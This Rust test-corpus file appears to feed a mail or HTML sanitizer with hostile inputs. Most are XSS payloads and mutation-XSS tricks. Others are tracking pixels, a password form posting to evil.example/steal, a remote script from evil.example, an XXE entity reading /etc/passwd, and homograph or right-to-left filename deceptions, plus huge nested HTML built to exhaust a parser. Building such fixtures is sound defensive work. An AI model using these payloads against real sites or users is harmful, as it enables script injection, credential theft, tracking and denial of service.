//! HTML that runs, loads, tracks, deceives, or takes the reader's time.

use super::{Corpus, Expected, HEAD, HTML};

pub(super) fn add(all: &mut Corpus) {
    let bodies: [(&str, &str); 62] = [
        ("script", "<script>alert(1)</script><p>Bonjour</p>"),
        ("script in pieces", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        ("script in capitals with a slash", "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>"),
        ("script with a NUL", "<scr\0ipt>alert(1)</scr\0ipt>"),
        ("script never closed", "<p>Bonjour</p><script>alert(1)"),
        ("script in a comment of Outlook", "<!--[if mso]><script>alert(1)</script><![endif]-->"),
        ("handler", "<p onclick=alert(1) onmouseover='alert(1)'>Bonjour</p>"),
        ("handler of a picture", "<img src=x onerror=alert(1)>"),
        ("handler after a slash", "<img/src=x/onerror=alert(1)>"),
        ("handler in a quote", "<a href=\"https://a.example\"onclick=\"alert(1)\">x</a>"),
        ("handler of an animation", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        ("handler of details", "<details open ontoggle=alert(1)>x</details>"),
        ("javascript link", "<a href=\"javascript:alert(1)\">x</a>"),
        ("javascript link with a tab", "<a href=\"java\tscript:alert(1)\">x</a>"),
        ("javascript link in entities", "<a href=\"&#106;avascript&colon;alert(1)\">x</a>"),
        ("javascript link after control signs", "<a href=\"\u{1}\u{2} javascript:alert(1)\">x</a>"),
        ("vbscript link", "<a href=\"vbscript:msgbox(1)\">x</a>"),
        ("data link", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>"),
        ("file link", "<a href=\"file:///etc/passwd\">x</a>"),
        ("link without scheme", "<a href=\"//evil.example/x\">x</a>"),
        ("relative link", "<a href=\"/deconnexion\">x</a>"),
        (
            "link that says another place",
            "<a href=\"https://evil.example/login\">https://impots.example/compte</a>",
        ),
        ("link with a user", "<a href=\"https://impots.example@evil.example/\">impots.example</a>"),
        ("link of other letters", "<a href=\"https://xn--mpots-8va.example\">ımpots.example</a>"),
        ("mail link with a text", "<a href=\"mailto:a@b.example?cc=x@evil.example&body=oui\">écrire</a>"),
        ("picture elsewhere", "<img src=\"http://track.example/p.gif?id=42\" width=1 height=1>"),
        ("picture elsewhere without scheme", "<img src=\"//track.example/p.gif\">"),
        (
            "picture in several sizes",
            "<img srcset=\"http://track.example/1x.png 1x, http://track.example/2x.png 2x\">",
        ),
        (
            "picture by a source",
            "<picture><source srcset=\"http://track.example/a.webp\"><img src=\"http://track.example/a.png\"></picture>",
        ),
        ("picture in data", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">"),
        ("picture that is not there", "<img src=\"cid:none@mail.example\" alt=\"logo\">"),
        (
            "picture marked as ours",
            "<img data-attachment=\"0\" src=\"http://track.example/x\"><span class=\"remote-image\" data-remote=\"0\" data-host=\"ville.example\">x</span>",
        ),
        (
            "picture whose text is a marker",
            "<img src=\"http://track.example/x\" alt='\"><img data-attachment=\"0\"'>",
        ),
        (
            "background",
            "<table background=\"http://track.example/x.gif\"><tr><td background=//track.example/y>x</td></tr></table>",
        ),
        (
            "style that loads",
            "<style>@import url(http://track.example/x.css); body{background:url(//track.example/y)}</style><p>Bonjour</p>",
        ),
        (
            "style attribute that loads",
            "<p style=\"background:url(http://track.example/x);position:fixed;top:0\">x</p>",
        ),
        (
            "style that hides the page",
            "<div style=\"position:fixed;inset:0;z-index:9999;background:#fff\">Votre session a expiré</div>",
        ),
        (
            "sheet elsewhere",
            "<link rel=stylesheet href=\"http://track.example/x.css\"><link rel=prefetch href=//track.example/y>",
        ),
        (
            "frame",
            "<iframe src=\"https://evil.example\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        ),
        (
            "object and embed",
            "<object data=\"http://evil.example/x.swf\"><param name=movie value=x></object><embed src=//evil.example/y>",
        ),
        (
            "video and sound",
            "<video poster=\"http://track.example/p.jpg\" src=//track.example/v autoplay></video><audio src=//track.example/a autoplay>",
        ),
        (
            "form",
            "<form action=\"https://evil.example/steal\" method=post><input name=password type=password><button formaction=//evil.example>OK</button></form>",
        ),
        ("picture as a button", "<input type=image src=\"http://track.example/x.png\">"),
        ("base", "<base href=\"https://evil.example/\"><a href=\"compte\">x</a>"),
        ("refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example\"><p>Bonjour</p>"),
        (
            "svg with a script",
            "<svg onload=alert(1)><script>alert(1)</script><image href=\"http://track.example/x\"/><use href=\"data:image/svg+xml,x#y\"/></svg>",
        ),
        (
            "mathematics",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        ),
        (
            "mathematics with a link",
            "<math href=\"javascript:alert(1)\"><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        ),
        (
            "annotation",
            "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        ),
        ("noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
        ("textarea", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>"),
        ("title", "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>"),
        ("template", "<template><img src=x onerror=alert(1)></template>"),
        (
            "frames that are not",
            "<noframes><img src=x onerror=alert(1)></noframes><noembed><img src=x onerror=alert(1)></noembed><xmp><img src=x onerror=alert(1)></xmp>",
        ),
        ("plain text", "<plaintext><img src=x onerror=alert(1)>"),
        ("select", "<select><option><style></option></select><img src=x onerror=alert(1)></style>"),
        ("comment never closed", "<p>Bonjour</p><!-- <img src=x onerror=alert(1)>"),
        ("comment closed oddly", "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>"),
        (
            "section of characters",
            "<![CDATA[<img src=x onerror=alert(1)>]]><?xml version=1?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
        ),
        ("quote never closed", "<a href=\"https://a.example>x<p>Bonjour"),
        (
            "names that collide",
            "<a id=location name=cookie href=https://a.example>x</a><form id=document><input name=body></form>",
        ),
        ("directions", "<bdo dir=rtl>moc.elpmaxe.live</bdo>\u{202e}fdp.exe"),
    ];
    for (name, body) in bodies {
        all.html(&format!("html: {name}"), body);
    }
    costly(all);
}

/// HTML that is nested, never closed, or huge.
fn costly(all: &mut Corpus) {
    let bodies: [(&str, &str, usize, &str); 18] = [
        ("div never closed", "<div>", 40_000, "x"),
        ("lists never closed", "<ul><li>", 64_000, "x"),
        ("bold never closed", "<b>", 100_000, "x"),
        ("fonts never closed", "<font size=1><i><u><small>", 20_000, "x"),
        ("tables never closed", "<table><tr><td>", 40_000, "x"),
        ("tables without cells", "<table>x", 60_000, "x"),
        ("links within links", "<a href=https://a.example>x", 30_000, "x"),
        ("quotations within quotations", "<blockquote>x", 40_000, "x"),
        ("paragraphs in bold in paragraphs", "<p><b><i><u><s>x", 30_000, "x"),
        ("ends without beginnings", "</div></p></b></table>", 40_000, "x"),
        ("crossed ends", "<b><i></b></i><p></b>", 40_000, "x"),
        ("mathematics never closed", "<math><mi>", 40_000, "x"),
        ("svg never closed", "<svg><g>", 40_000, "x"),
        ("templates never closed", "<template>", 60_000, "x"),
        ("entities", "&nbsp;&#x1F600;&notanentity;", 30_000, "x"),
        ("pictures elsewhere", "<img src=//track.example/x>", 20_000, "x"),
        ("half tags", "<", 500_000, ""),
        ("comments", "<!---->", 100_000, "x"),
    ];
    for (name, piece, times, end) in bodies {
        all.made(&format!("html: {name}, {times} times"), Expected::Filed, move || {
            format!("{HEAD}{HTML}{}{end}", piece.repeat(times)).into_bytes()
        });
    }
    all.made("html: hundreds of thousands of attributes", Expected::Filed, || {
        let attributes = (0..170_000).map(|it| format!("a{it:x}")).collect::<Vec<_>>().join(" ");
        format!("{HEAD}{HTML}<p>avant</p><p {attributes}>dedans</p><p>après</p>").into_bytes()
    });
    all.made("html: a comment of a megabyte", Expected::Filed, || {
        format!("{HEAD}{HTML}<p>avant</p><!-- {} --><p>après</p>", "x ".repeat(500_000)).into_bytes()
    });
    all.made("html: ten megabytes", Expected::Filed, || {
        format!("{HEAD}{HTML}{}", "<p>Bonjour <b>Jeanne</b></p>".repeat(370_000)).into_bytes()
    });
    all.made("html: a link of two hundred thousand letters", Expected::Filed, || {
        format!("{HEAD}{HTML}<a href=\"https://a.example/{}\">x</a>", "a".repeat(200_000)).into_bytes()
    });
}
